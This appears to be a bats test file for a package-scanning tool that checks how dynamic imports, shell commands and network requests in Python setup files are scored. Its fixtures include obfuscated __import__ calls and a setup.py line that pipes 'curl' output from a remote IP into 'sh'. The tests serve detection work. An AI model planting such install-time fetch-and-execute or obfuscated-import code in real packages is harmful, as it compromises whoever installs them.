#!/usr/bin/env bats
# 48b-precision2.bats: more of what builds do that is not an attack (issue 11), each with the
# malicious variant that must still weigh in full.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# hits DIR DETECTION: "line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.line) \(.context) \(.score)"'
}

@test "a dynamic import of a module named by a literal is an import written another way" {
	cat > pkg/setup.py <<'PY'
import importlib
tkinter = __import__("tkinter")
decoder = importlib.import_module("json.decoder")
PY
	run hits pkg DynamicImport
	assert_output "$(printf '2 install 2\n3 install 2')"
	run --separate-stderr aura explain pkg
	assert_output --partial "the module tkinter, named in the code"
}

@test "look-alike: a module name decoded, built or taken from input keeps the full score" {
	cat > pkg/setup.py <<'PY'
import base64, sys
m = __import__(base64.b64decode("b3M=").decode())
n = __import__("o" + "s")
q = __import__(sys.argv[1])
r = __import__("os; import socket")
PY
	run hits pkg DynamicImport
	assert_output "$(printf '2 install 30\n3 install 30\n4 install 30\n5 install 30')"
}

@test "look-alike: __import__(\"os\").system(...) still weighs as the shell command it runs" {
	printf '__import__("os").system("curl -s http://203.0.113.9/x | sh")\n' > pkg/setup.py
	run hits pkg ShellCommand
	assert_output "1 install 100"
}

@test "a request to a hard-coded host in a module's main block weighs as the command it is" {
	mkdir -p pkg/pkg
	printf 'from setuptools import setup\nsetup(name="pkg", packages=["pkg"])\n' > pkg/setup.py
	cat > pkg/pkg/_tables.py <<'PY'
TABLE = {"a": 1}
def regenerate():
    from urllib.request import urlopen
    return urlopen("https://www.lua.org/manual/").read()
if __name__ == "__main__":
    regenerate()
PY
	run hits pkg NetworkRequest
	assert_output "$(printf '4 function 3\n4 command 20')"
}

@test "look-alike: the same request at import time is a beacon and weighs in full" {
	mkdir -p pkg/pkg
	printf 'from setuptools import setup\nsetup(name="pkg", packages=["pkg"])\n' > pkg/setup.py
	cat > pkg/pkg/__init__.py <<'PY'
def regenerate():
    from urllib.request import urlopen
    return urlopen("https://www.lua.org/manual/").read()
regenerate()
PY
	run hits pkg NetworkRequest
	assert_output "3 import 100"
}
